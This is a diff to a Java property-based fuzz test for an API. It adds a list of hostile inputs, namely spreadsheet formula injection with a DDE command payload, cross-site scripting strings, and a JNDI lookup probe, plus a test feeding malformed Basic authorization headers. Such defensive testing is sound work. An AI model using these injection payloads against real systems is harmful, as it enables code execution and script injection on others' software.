@@ -185,6 +185,15 @@ class ApiFuzzTest {
       {"kind": "ASSEMBLY_POINT", "name": "Gare de Lyon", "latitude": 48.8443, "longitude": 2.3744,
        "country": "FR", "notes": "hall 1"}""";
 
+  /**
+   * The security reviews' text: spreadsheet formulas (a manifest opened by a carrier), markup (a name shown by the
+   * console), a NUL, controls; each taken as text or refused with a 4xx, never a 5xx.
+   */
+  static final String[] HOSTILE_TEXT = {"=HYPERLINK(\"http://x.invalid\",\"ok\")", "+1+1", "-2+3", "@SUM(A1:A9)",
+      "\t=1", "\r=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
+      "\"><svg onload=alert(1)>", "javascript:alert(1)", "&lt;b&gt;", "{{7*7}}", "${jndi:ldap://x.invalid/a}",
+      "Omar\u0000Benali", "عمر <b>بنعلي</b>"};
+
   /** Values put where another was: every JSON type, and the strings that broke things before. */
   @Provide
   Arbitrary<JsonNode> values() {
@@ -192,8 +201,8 @@ class ApiFuzzTest {
     Arbitrary<JsonNode> text = Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(30),
         Arbitraries.of("\u0000", "\ud800", "a\u202eb", "", "  ", "0x1p5", "NaN", "1e999", "-1", "1970-01-01",
             "2026-02-30", "+33612345678", "fr-paris", "ly-tripoli", "FR", "LY", "xx", "null", "x".repeat(5000),
-            "فاطمة", "MEDICAL_CONDITION", "ACTIVE", "ar", "00000000-0000-0000-0000-000000000000"))
-        .map(f::textNode);
+            "فاطمة", "MEDICAL_CONDITION", "ACTIVE", "ar", "00000000-0000-0000-0000-000000000000"),
+        Arbitraries.of(HOSTILE_TEXT)).map(f::textNode);
     Arbitrary<JsonNode> number = Arbitraries.oneOf(
         Arbitraries.integers().map(f::numberNode), Arbitraries.doubles().map(f::numberNode),
         Arbitraries.of(f.numberNode(new java.math.BigDecimal("1e400")), f.numberNode(Long.MAX_VALUE),
@@ -320,6 +329,38 @@ class ApiFuzzTest {
         .POST(HttpRequest.BodyPublishers.ofString(body.toString())).build(), HttpResponse.BodyHandlers.ofString());
     STATUSES.computeIfAbsent(r.statusCode(), k -> new AtomicInteger()).incrementAndGet();
     assertThat(r.statusCode()).as("%s %s -> %s", path, form, r.body()).isLessThan(500);
+  }
+
+  /**
+   * Whatever an Authorization header holds (a NUL in the user name gave an unauthenticated 500): a JSON 401 or 400,
+   * never a 5xx, and nobody signed in.
+   */
+  @Property
+  void anyAuthorizationHeaderIsAJson4xxUnlessItIsAUsersRightPassword(@ForAll("authorization") String header)
+      throws Exception {
+    HttpResponse<String> r = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/crises"))
+        .header("Authorization", header).GET().build(), HttpResponse.BodyHandlers.ofString());
+    STATUSES.computeIfAbsent(r.statusCode(), k -> new AtomicInteger()).incrementAndGet();
+    String what = header + " -> " + r.statusCode() + " " + r.body();
+    assertThat(r.statusCode()).as(what).isIn(400, 401, 429);
+    assertThat(Json.read(r.body(), Map.class)).as(what).containsKey("error");
+  }
+
+  @Provide
+  Arbitrary<String> authorization() {
+    Arbitrary<String> user = Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(20),
+        // Never a fixture user's own name: its failures would hold that account for the other properties.
+        Arbitraries.of("cell\u0000", "\u0000", "nobody", "admin\r\n", "عمر", "", ":", "nobody:extra"),
+        Arbitraries.of(HOSTILE_TEXT));
+    Arbitrary<String> password = Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(20),
+        Arbitraries.of("", "\u0000", "wrong", AppFixture.PASSWORD + "\u0000"));
+    Arbitrary<String> basic = net.jqwik.api.Combinators.combine(user, password).as((u, pw) -> "Basic "
+        + Base64.getEncoder().encodeToString((u + ":" + pw).getBytes(StandardCharsets.UTF_8)));
+    Arbitrary<String> broken = Arbitraries.of("Basic", "Basic ", "Basic !!!", "Basic bm9ib2R5", "Basic =",
+        "Bearer x", "basic " + Base64.getEncoder().encodeToString("nobody:x".getBytes(StandardCharsets.UTF_8)),
+        "Basic " + Base64.getEncoder().encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe, ':', 'x'}),
+        "Basic " + "A".repeat(6000));
+    return Arbitraries.oneOf(basic, broken);
   }
 
   @Provide
